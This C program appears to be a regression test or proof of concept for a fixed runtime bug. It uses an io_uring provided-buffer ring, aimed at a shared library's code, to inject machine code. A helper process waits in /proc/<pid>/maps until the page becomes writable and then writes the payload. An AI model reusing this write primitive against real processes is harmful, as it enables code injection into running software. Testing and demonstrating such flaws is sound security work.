// SPDX-License-Identifier: MIT
/*
 * protect_uring.sh's program: a write primitive and a program that uses
 * io_uring. The program queues a read from a pipe into a buffer of a
 * provided-buffer ring (IORING_REGISTER_PBUF_RING): the kernel reads the
 * buffer's address from the ring, plain user memory, when the read
 * completes, and completes it in this thread, at its next return to user
 * mode, whatever its signal mask. The write primitive: every ring entry
 * is made to name the first bytes of ur_fn in LIB (its address found by a
 * first dlopen; a second maps it at the same place). Then LIB is opened
 * again while another process (standing in for the peer that sends the
 * data: it watches this process's maps) writes the payload into the pipe
 * as soon as that page is writable. Before the fix, the runtime rewrote
 * LIB's text in place, unverified, because unshare(CLONE_VM) said no
 * other task shares the address space; the read landed in the text and
 * ur_fn returned 0x1337 ("INJECTED"). Output: "same S ret R read N":
 * S the address reused, R ur_fn(1), N the read's result (999: none).
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* mov $0x1337, %eax; ret */
static const unsigned char pu_payload[6] = { 0xb8, 0x37, 0x13, 0, 0, 0xc3 };

/* The other process: the parent's page of @fn writable, then the payload. */
static void pu_watch(pid_t pp, uintptr_t fn, int wfd)
{
	static char buf[1 << 16];
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pp);
	for (;;) {
		int fd = open(path, O_RDONLY);
		ssize_t len = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;

		if (fd < 0)
			_exit(1);
		close(fd);
		if (len <= 0)
			continue;
		buf[len] = 0;
		for (char *l = buf; l; l = strchr(l, '\n'), l = l ? l + 1 : NULL) {
			unsigned long lo, hi;
			char perm[8];

			if (sscanf(l, "%lx-%lx %4s", &lo, &hi, perm) == 3 &&
			    lo <= fn && fn < hi && perm[1] == 'w')
				_exit(write(wfd, pu_payload, 6) != 6);
		}
	}
}

static uintptr_t pu_fn(void *h)
{
	int (*(*get)(void))(int) = h ? (int (*(*)(void))(int))dlsym(h, "ur_get") : NULL;

	return get ? (uintptr_t)get() : 0;
}

int main(int argc, char **argv)
{
	struct io_uring_params p;
	struct io_uring_buf_reg reg = { .ring_entries = 8, .bgid = 1 };
	struct io_uring_buf *br;
	struct io_uring_sqe *sqe;
	char *sq, *cq;
	int fd, pfd[2], r, st, res = 999;
	uintptr_t fn, fn2;
	unsigned hd, tl;
	void *h;
	pid_t c;

	if (argc < 2)
		return 2;
	memset(&p, 0, sizeof(p));
	fd = (int)syscall(SYS_io_uring_setup, 8, &p);
	if (fd < 0) {
		printf("no io_uring\n");
		return 0;
	}
	sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
	cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
	sqe = mmap(0, p.sq_entries * sizeof(*sqe), PROT_READ | PROT_WRITE,
		   MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	br = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	reg.ring_addr = (uintptr_t)br;
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED ||
	    br == MAP_FAILED || pipe(pfd) ||
	    syscall(SYS_io_uring_register, fd, IORING_REGISTER_PBUF_RING, &reg, 1)) {
		printf("no io_uring\n");
		return 0;
	}
	h = dlopen(argv[1], RTLD_NOW);
	fn = pu_fn(h);
	if (!fn) {
		printf("no library: %s\n", dlerror());
		return 1;
	}
	dlclose(h);
	/* The write primitive: the ring's entries name the library's text. */
	for (int i = 0; i < 8; i++)
		br[i] = (struct io_uring_buf){ .addr = fn, .len = 6, .bid = (uint16_t)i };
	__atomic_store_n(&((struct io_uring_buf_ring *)br)->tail, 8, __ATOMIC_RELEASE);
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_READ;
	sqe->fd = pfd[0];
	sqe->len = 6;
	sqe->off = (uint64_t)-1;
	sqe->flags = IOSQE_BUFFER_SELECT;
	sqe->buf_group = 1;
	((unsigned *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, fd, 1, 0, 0, NULL, 0) != 1) {
		printf("no io_uring\n");
		return 0;
	}
	c = fork();
	if (!c)
		pu_watch(getppid(), fn, pfd[1]);
	usleep(20000);
	h = dlopen(argv[1], RTLD_NOW);
	fn2 = pu_fn(h);
	r = fn2 ? ((int (*)(int))fn2)(1) : -1;
	kill(c, SIGKILL);
	waitpid(c, &st, 0);
	hd = *(unsigned *)(cq + p.cq_off.head);
	tl = __atomic_load_n((unsigned *)(cq + p.cq_off.tail), __ATOMIC_ACQUIRE);
	if (hd != tl)
		res = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[hd & (p.cq_entries - 1)].res;
	printf("same %d ret %#x read %d%s\n", fn == fn2, r, res,
	       r == 0x1337 ? " INJECTED" : "");
	return 0;
}
